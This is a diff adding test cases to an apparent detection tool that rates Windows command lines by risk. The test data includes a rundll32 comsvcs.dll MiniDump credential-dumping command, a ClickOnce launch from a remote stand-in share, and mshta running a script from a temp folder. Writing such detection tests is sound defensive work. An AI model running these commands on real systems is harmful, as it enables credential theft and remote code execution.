@@ -36,6 +36,16 @@ describe("what a build has made", () => {
   });
 });
 
+describe("what keeps its level beside an ordinary line", () => {
+  it.each([
+    ["rundll32 comsvcs.dll,MiniDump 624 C:\\Users\\Public\\a.bin full", "critical"],
+    ["rundll32 dfshim.dll,ShOpenVerbShortcut C:\\Users\\amy\\Downloads\\offer.appref-ms", "high"],
+    ["rundll32 dfshim.dll,ShOpenVerbShortcut \\\\files.example.net\\x\\offer.appref-ms", "critical"],
+    ["mshta C:\\Users\\amy\\AppData\\Local\\Temp\\nsu3F2.tmp\\a.hta", "high"],
+    ["rundll32 keymgr.dll,KRShowKeyMgr", "medium"],
+  ])("%s: %s", (line, level) => expect(levelOf(line)).toBe(level));
+});
+
 describe("what is unpacked by hand", () => {
   it("is a component or an INF file in a folder of its own", () => {
     expect(levelOf("regsvr32 C:\\Users\\amy\\Downloads\\Splitter\\split.ax", CMD)).toBe("low");
